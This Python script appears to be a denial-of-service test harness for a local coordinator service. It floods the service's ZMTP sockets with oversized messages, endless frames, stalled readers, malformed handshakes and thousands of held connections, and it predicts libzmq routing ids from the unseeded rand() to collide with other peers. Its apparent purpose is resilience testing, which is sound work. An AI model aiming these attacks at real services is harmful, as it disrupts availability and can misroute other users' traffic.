#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Attacks on a running coordinator, each as one user of its sockets could make it.

    attacks.py NAME SECONDS RUNDIR [SEED]     one attack, for so long
    attacks.py probe SECONDS RUNDIR           a fresh client each 50 ms: a line `WHEN MS` for each, in s and ms
    attacks.py list                           the names, and what each does

It speaks ZMTP 3 itself, octet by octet: libzmq would keep to rules that an attacker does not. An attack ends with a line
`CONNECTIONS OCTETS`: how many it had, and how much the system took of what it said there behind the greeting.
"""
import json, os, random, socket, struct, sys, time

HEADER = b"WK" + bytes([1, 0])
KINDS = {"command": 1, "cancel": 2, "query": 3, "snapshot": 5, "inspect": 6, "hello": 0x21}
ATTACKS = {}


def frame(body, more=False, command=False):
    flags = (1 if more else 0) | (4 if command else 0)
    if len(body) < 256:
        return bytes([flags, len(body)]) + body
    return bytes([flags | 2]) + struct.pack(">Q", len(body)) + body


def message(kind, body):
    text = json.dumps(body, separators=(",", ":")).encode()
    return frame(HEADER + bytes([KINDS[kind], 1]) + bytes(26), True) + frame(text)


class Peer:
    """A connection that has greeted. What is sent may be refused: a peer that is cut off raises OSError."""

    # Of all of them.
    connections = octets = 0

    def __init__(self, path, kind="DEALER", greets=True, patience=5):
        self.socket = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.socket.settimeout(patience)
        try:
            self.socket.connect(path)
            Peer.connections += 1
            if not greets:
                return
            name = kind.encode()
            ready = b"\5READY\x0bSocket-Type" + struct.pack(">I", len(name)) + name
            if kind in ("DEALER", "REQ"):
                ready += b"\x08Identity" + struct.pack(">I", 0)
            self.socket.sendall(b"\xff" + bytes(8) + b"\x7f\3\0" + b"NULL" + bytes(16 + 32) + frame(ready, command=True))
            self.read(64)
            self.frame()
        except OSError:
            self.close()
            raise

    def read(self, count):
        octets = bytearray()
        while len(octets) < count:
            piece = self.socket.recv(min(count - len(octets), 1 << 20))
            if not piece:
                raise ConnectionResetError("ended by the coordinator")
            octets += piece
        return bytes(octets)

    def frame(self):
        flags = self.read(1)[0]
        size = struct.unpack(">Q", self.read(8))[0] if flags & 2 else self.read(1)[0]
        return flags, self.read(size)

    def answer(self):
        """The next message's last frame; its empty delimiter, if any, stands before."""
        while True:
            flags, body = self.frame()
            if not flags & 5:
                return body

    def send(self, octets):
        rest = memoryview(octets)
        while rest:
            rest = rest[self.send_some(rest):]

    def send_some(self, octets):
        """Sends as much of it as fits now, and tells how much that was."""
        count = self.socket.send(octets)
        Peer.octets += count
        return count

    def close(self):
        self.socket.close()


def attack(function):
    ATTACKS[function.__name__.replace("_", "-")] = function
    return function


class Run:
    def __init__(self, folder, seconds, seed):
        self.folder, self.seconds = folder, seconds
        self.random = random.Random(seed)
        self.end = time.monotonic() + seconds

    def goes_on(self):
        return time.monotonic() < self.end

    def path(self, door):
        return f"{self.folder}/{door}.sock"

    def peer(self, door="control", kind="DEALER", **more):
        """A new connection, as soon as there is one; None at the end. None of its calls waits much longer than the attack lasts."""
        while self.goes_on():
            try:
                patience = max(0.1, min(5, self.end - time.monotonic() + 1))
                return Peer(self.path(door), kind, **{"patience": patience, **more})
            except OSError:
                time.sleep(0.01)
        return None

    def add_deaf(self, peers, count):
        """One more client that reads nothing and waits for nothing, up to so many; none where none is let in."""
        try:
            if len(peers) < count:
                peer = Peer(self.path("control"), patience=0.5)
                peer.socket.setblocking(False)
                peers.append(peer)
        except OSError:
            pass

    def flood(self, pieces, door="control", kind="DEALER", reads=False):
        """Sends one piece after another, on a new connection where one was ended."""
        while self.goes_on():
            peer = self.peer(door, kind)
            if peer is None:
                return
            try:
                if reads:
                    peer.socket.setblocking(True)
                    peer.socket.settimeout(0.2)
                for octets in pieces():
                    peer.send(octets)
                    if reads:
                        try:
                            while peer.socket.recv(1 << 16, socket.MSG_DONTWAIT):
                                pass
                        except BlockingIOError:
                            pass
                    if not self.goes_on():
                        break
            except OSError:
                pass
            peer.close()

    def ask(self, peer, kind, body):
        peer.send(message(kind, body))
        return json.loads(peer.answer())


def forever(make):
    def pieces():
        while True:
            yield make()
    return pieces


def screens(count, letter="x", size=15900):
    return [{"screen": f"s{i}", "content": {"t": letter * size}} for i in range(count)]


def names(run, count):
    """Different names; the seed says which."""
    return ["".join(run.random.choices("abcdefghijklmnopqrstuvwxyz", k=6)) + str(i) for i in range(count)]


# -- what a message costs ----------------------------------------------------------------------------------------------


@attack
def tree(run):
    """registrations whose parts lead to the next part twice, forty deep"""
    parts = {f"p{i}": {"anyOf": [{"remote": f"p{i + 1}"}] * 2} for i in range(40)}
    parts["p40"] = {"screen": "leaf", "route": "leaf"}
    body = {"worker": "w", "incarnation": "i", "routables": {}, "tree": {"remote": "p0"}, "parts": parts}
    run.flood(forever(lambda: message("hello", body)), "screens", reads=True)


@attack
def scenes(run):
    """registrations with 20 000 names of scenes and a tree of 9 000 nodes"""
    tree = {"anyOf": [{"screen": f"n{i}"} for i in range(9000)]}
    body = {"worker": "w", "incarnation": "i", "routables": {}, "tree": tree, "scenes": names(run, 20000)}
    octets = message("hello", body)
    run.flood(forever(lambda: octets), "screens", reads=True)


@attack
def query(run):
    """screens in path syntax with 50 000 keys in their query"""
    path = "home?" + "&".join(n + "=1" for n in names(run, 50000))
    octets = message("command", {"commandId": "q1", "verb": "replace", "screens": [path]})
    run.flood(forever(lambda: octets[:500000] if len(octets) > 512 * 1024 else octets), reads=True)


@attack
def words(run):
    """commands whose verb is a word of 400 KB"""
    octets = message("command", {"commandId": "q1", "verb": "go" * 200000})
    run.flood(forever(lambda: octets), reads=True)


@attack
def snapshot(run):
    """snapshots that name one large scene 16 000 times"""
    peer = run.peer(patience=10)
    run.ask(peer, "command", {"commandId": f"s{run.random.random()}", "verb": "replace", "screens": screens(15)})
    octets = message("snapshot", {"scenes": ["main"] * 16000})
    run.flood(forever(lambda: octets), reads=True)


@attack
def endings(run):
    """questions for the end of a command id, which is empty"""
    octets = message("query", {"commandId": ""})
    run.flood(forever(lambda: octets), reads=True)


# -- floods ------------------------------------------------------------------------------------------------------------


@attack
def tiny(run):
    """tiny commands, each with an id of its own, as fast as they go"""
    number = 0

    def pieces():
        nonlocal number
        while True:
            batch = b""
            for _ in range(60):
                number += 1
                batch += message("command", {"commandId": f"f{os.getpid()}.{number}", "verb": "goBack", "to": "zz"})
            yield batch

    run.flood(pieces, reads=True)


@attack
def large(run):
    """commands with routes of 240 KiB, each with an id of its own"""
    number = 0

    def pieces():
        nonlocal number
        while True:
            number += 1
            body = {"commandId": f"l{os.getpid()}.{number}", "verb": "replace"}
            yield message("command", {**body, "screens": screens(15, "abcdefgh"[number % 8])})

    run.flood(pieces, reads=True)


@attack
def backlog(run):
    """large commands on many connections, none of which waits for anything"""
    octets = message("command", {"commandId": "b1", "verb": "replace", "screens": screens(15)})
    peers = []
    while run.goes_on():
        run.add_deaf(peers, 64)
        for peer in list(peers):
            try:
                # What does not fit now is left out, and the connection is then of no use.
                if peer.send_some(octets) < len(octets):
                    raise BrokenPipeError
            except BlockingIOError:
                pass
            except OSError:
                peer.close()
                peers.remove(peer)


@attack
def workers(run):
    """registrations under one new name after another"""
    number = 0

    def pieces():
        nonlocal number
        while True:
            number += 1
            name = f"w{os.getpid()}x{number}"
            yield message("hello", {"worker": name, "incarnation": "i", "routables": {"x": {"hosts": True}}})

    run.flood(pieces, "screens", reads=True)


@attack
def many_scenes(run):
    """one new scene after another"""
    number = 0

    def pieces():
        nonlocal number
        while True:
            number += 1
            name = f"s{os.getpid()}x{number}"
            yield message("command", {"commandId": name, "scene": name, "verb": "replace", "screens": ["home"]})

    run.flood(pieces, reads=True)


@attack
def frozen(run):
    """a worker that never answers, and commands with a deadline of a day that ask it"""
    worker = run.peer("screens", patience=10)
    routables = {"home": {"hosts": True, "guard": True, "handles": ["show *"], "askMs": 86400000}}
    run.ask(worker, "hello", {"worker": f"z{os.getpid()}", "incarnation": "i", "routables": routables})
    number = 0

    def pieces():
        nonlocal number
        while True:
            number += 1
            scene = f"frozen{number % 4}"
            yield message("command", {
                "commandId": f"z{os.getpid()}.{number}", "scene": scene, "deadlineMs": 86400000,
                **({"verb": "replace", "screens": ["home"]} if number <= 4 else {"verb": "show", "names": ["x"]})})

    run.flood(pieces, reads=True)
    worker.close()


# -- bytes, and whose --------------------------------------------------------------------------------------------------


@attack
def prefixes(run):
    """subscriptions of 120 octets, no two alike"""
    number = 0

    def pieces():
        nonlocal number
        while True:
            number += 1
            yield b"".join(frame(b"\1" + b"%010d.%04d" % (number, i) + b"y" * 104) for i in range(100))

    run.flood(pieces, "updates", "XSUB")


@attack
def long_prefixes(run):
    """subscriptions of 4 KB, no two alike"""
    number = 0

    def pieces():
        nonlocal number
        while True:
            number += 1
            yield frame(b"\1" + b"%010d" % number + b"y" * 4000)

    run.flood(pieces, "updates", "XSUB")


def fill(run, count=40):
    """Large scenes, so that states are large."""
    peer = run.peer(patience=10)
    for number in range(count):
        scene = f"large{number}"
        run.ask(peer, "command", {
            "commandId": f"{scene}.{os.getpid()}", "scene": scene, "verb": "replace", "screens": screens(14)})
    peer.close()


@attack
def resubscribe(run):
    """the same subscription to everything, again and again, with large scenes"""
    fill(run, 20)
    octets = frame(b"\1wk1/json/") * 50
    run.flood(forever(lambda: octets), "updates", "XSUB", reads=True)


@attack
def deaf_clients(run):
    """clients that ask for snapshots of a megabyte and read nothing"""
    fill(run, 4)
    octets = message("snapshot", {"scenes": ["large0", "large1", "large2", "large3"]})
    peers = []
    while run.goes_on():
        run.add_deaf(peers, 400)
        for peer in list(peers):
            try:
                peer.send_some(octets)
            except BlockingIOError:
                pass
            except OSError:
                peer.close()
                peers.remove(peer)


@attack
def deaf_observers(run):
    """observers that read nothing, begun one after another, and large updates"""
    client = run.peer()
    observers = []
    number = 0
    while run.goes_on():
        number += 1
        try:
            if number % 10 == 1 and len(observers) < 300:
                observer = Peer(run.path("updates"), "SUB", patience=0.5)
                observer.send(frame(b"\1wk1/"))
                observers.append(observer)
            run.ask(client, "command", {
                "commandId": f"d{os.getpid()}.{number}", "verb": "replace", "screens": screens(15, "abcdefgh"[number % 8])})
        except OSError:
            client.close()
            client = run.peer() or client


@attack
def multipart(run):
    """messages of endless frames of one octet, on two sockets in turn"""
    octets = frame(b"x", True) * 20000
    doors = [("control", "DEALER"), ("updates", "XSUB"), ("screens", "DEALER")]
    while run.goes_on():
        for door, kind in doors:
            peer = run.peer(door, kind)
            try:
                while peer and run.goes_on():
                    peer.send(octets)
            except OSError:
                pass
            if peer:
                peer.close()


@attack
def pings(run):
    """more small messages than are taken at once, with pings among them, from peers that leave at once"""
    ping = frame(b"\4PING\0\x0a", command=True)
    # libzmq reads 8 KiB at a time: each piece ends with a ping that it has read and not yet handled.
    pieces = (frame(b"x") * 100 + ping) * 200
    while run.goes_on():
        for door, kind in [("control", "DEALER"), ("screens", "DEALER"), ("updates", "XSUB")]:
            peer = run.peer(door, kind)
            try:
                if peer:
                    peer.send(pieces)
            except OSError:
                pass
            if peer:
                peer.close()


@attack
def commands(run):
    """ZMTP commands with random names and octets, before and behind the handshake"""
    words = [b"READY", b"ERROR", b"PING", b"PONG", b"SUBSCRIBE", b"CANCEL", b"JOIN", b"LEAVE", b"HELLO", b"WELCOME", b""]
    while run.goes_on():
        for door, kind in [("control", "DEALER"), ("screens", "REQ"), ("updates", "SUB")]:
            peer = run.peer(door, kind, greets=run.random.random() < 0.8)
            try:
                for _ in range(run.random.randrange(200)):
                    name = run.random.choice(words)
                    length = run.random.choice([len(name)] * 6 + [0, 4, 255])
                    body = bytes([length]) + name + run.random.randbytes(run.random.choice([0, 0, 1, 2, 3, 20, 300]))
                    peer.send(frame(body, run.random.random() < 0.1, run.random.random() < 0.9))
            except (AttributeError, OSError):
                pass
            if peer:
                peer.close()


# -- handshakes --------------------------------------------------------------------------------------------------------


def ready(identity=b"", name=b"X-More", value=b""):
    """A greeting and a READY, with a routing id, and with another property."""
    body = b"\5READY"
    for key, octets in [(b"Socket-Type", b"DEALER"), (b"Identity", identity), (name, value)]:
        body += bytes([len(key)]) + key + struct.pack(">I", len(octets)) + octets
    return b"\xff" + bytes(8) + b"\x7f\3\0" + b"NULL" + bytes(16 + 32) + frame(body, command=True)


def older(identity):
    """The greeting of ZMTP 2, with a routing id."""
    return b"\xff" + bytes(7) + b"\1\x7f\1\5" + frame(identity)


def pile(run, octets, count, greets=True):
    """Says the same on up to so many connections to each socket for messages, all kept."""
    kept = []
    while run.goes_on():
        for door in ("control", "screens"):
            peer = run.peer(door, greets=greets)
            try:
                if peer:
                    peer.send(octets)
                    kept.append(peer)
            except OSError:
                peer.close()
        while len(kept) > 2 * count:
            kept.pop(0).close()


def meet(run, greeting):
    """Takes routing ids that libzmq is about to give. It counts up from a number of rand(), whose seed nobody has set."""
    import ctypes
    numbers = [ctypes.CDLL(None).rand() for _ in range(8)]
    firsts = [(low | high << 31) & 0xFFFFFFFF for low, high in zip(numbers[::2], numbers[1::2])]
    kept = []
    while run.goes_on():
        for door in ("control", "screens"):
            for first in firsts:
                for ahead in (40, 80, 160, 320):
                    peer = run.peer(door, greets=False)
                    try:
                        if peer:
                            kept.append(peer)
                            peer.send(greeting(b"\0" + struct.pack(">I", first + ahead & 0xFFFFFFFF)))
                    except OSError:
                        pass
            for _ in range(400):
                peer = run.peer(door)
                if peer:
                    peer.close()
        while kept:
            kept.pop().close()


@attack
def routing_ids(run):
    """routing ids that libzmq is about to give to others, and others"""
    meet(run, ready)


@attack
def older_routing_ids(run):
    """the same by the greeting of ZMTP 2"""
    meet(run, older)


@attack
def long_routing_ids(run):
    """messages under routing ids of 500 KB, no two alike, on one connection after another"""
    number = 0
    while run.goes_on():
        number += 1
        identity = b"x" + struct.pack(">I", number) * 125000
        peer = run.peer(greets=False)
        try:
            if peer:
                peer.send(ready(identity))
                peer.send(message("inspect", {"subject": "status"}))
        except OSError:
            pass
        if peer:
            peer.close()


@attack
def long_commands(run):
    """ZMTP commands of 575 KB that never end, on many connections"""
    pile(run, bytes([6]) + struct.pack(">Q", 589000) + b"\3abc" + b"z" * 588900, 340)


@attack
def long_properties(run):
    """a property of 580 KB in the handshake of many connections"""
    pile(run, ready(value=b"z" * 580000), 340, greets=False)


# -- connections -------------------------------------------------------------------------------------------------------


def hold(run, doors, greets, count):
    """Connections, all kept; those that were ended are made again."""
    kept = []
    while run.goes_on():
        for door, kind in doors:
            if len(kept) >= count or not run.goes_on():
                break
            try:
                kept.append(Peer(run.path(door), kind, greets=greets, patience=0.3))
            except OSError as error:
                if error.errno == 24:
                    count = len(kept)
        if len(kept) >= count:
            time.sleep(0.01)
            alive = []
            for peer in kept:
                try:
                    if peer.socket.recv(1 << 16, socket.MSG_DONTWAIT):
                        alive.append(peer)
                    else:
                        peer.close()
                except BlockingIOError:
                    alive.append(peer)
                except OSError:
                    peer.close()
            kept = alive


DOORS = [("control", "DEALER"), ("screens", "DEALER"), ("updates", "SUB")]


@attack
def connections(run):
    """up to 3 000 connections to all sockets that greet and say nothing more"""
    hold(run, DOORS, True, 3000)


@attack
def silent_connections(run):
    """up to 3 000 connections to all sockets that do not even greet"""
    hold(run, DOORS, False, 3000)


@attack
def one_socket(run):
    """up to 3 000 connections to one socket"""
    hold(run, [("updates", "SUB")], True, 3000)


@attack
def busy_connections(run):
    """costly messages, and connections to all sockets while the coordinator works on them"""
    path = "home?" + "&".join(n + "=1" for n in names(run, 25000))
    octets = message("command", {"commandId": "q1", "verb": "replace", "screens": [path]})
    kept = []
    while run.goes_on():
        try:
            peer = Peer(run.path("control"), patience=0.5)
            peer.send(octets)
            kept.append(peer)
            for door, _ in DOORS * 100:
                kept.append(Peer(run.path(door), greets=False, patience=0.2))
        except OSError:
            pass
        while len(kept) > 2500:
            kept.pop(0).close()


@attack
def reconnects(run):
    """connections that come and go as fast as they can"""
    while run.goes_on():
        for door, kind in DOORS:
            try:
                Peer(run.path(door), kind, greets=False, patience=0.2).close()
            except OSError:
                pass


@attack
def halves(run):
    """messages that begin and never end, on many connections"""
    kept = []
    begun = frame(HEADER + bytes([1, 1]) + bytes(26), True) + bytes([2]) + struct.pack(">Q", 500000) + b"{" * 100
    while run.goes_on():
        try:
            peer = Peer(run.path("control"), patience=0.3)
            peer.send(begun)
            kept.append(peer)
        except OSError:
            time.sleep(0.005)
        if len(kept) > 2000:
            kept.pop(0).close()


def probe(run):
    """A fresh client each 50 ms. As libzmq it connects again after 20 ms, for instance where the listen queue is full."""
    octets = message("inspect", {"subject": "status"})
    begin = time.monotonic()
    while run.goes_on():
        start = time.monotonic()
        ms = None
        while ms is None:
            try:
                peer = Peer(run.path("control"), patience=2)
                peer.send(octets)
                peer.answer()
                peer.close()
                ms = (time.monotonic() - start) * 1000
            except OSError:
                if time.monotonic() - start > 5:
                    ms = 9999.0
                else:
                    time.sleep(0.02)
        print(f"{start - begin:.3f} {ms:.2f}", flush=True)
        time.sleep(max(0, start + 0.05 - time.monotonic()))


def main():
    if sys.argv[1:] == ["list"]:
        for name, function in ATTACKS.items():
            print(f"{name:20}{function.__doc__}")
        return
    if len(sys.argv) not in (4, 5) or sys.argv[1] not in [*ATTACKS, "probe"]:
        sys.exit(__doc__)
    import resource
    limit = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (limit[1], limit[1]))
    seed = int(sys.argv[4]) if len(sys.argv) == 5 else 1
    run = Run(sys.argv[3], float(sys.argv[2]), seed)
    if sys.argv[1] == "probe":
        probe(run)
    else:
        ATTACKS[sys.argv[1]](run)
        print(Peer.connections, Peer.octets)


if __name__ == "__main__":
    main()
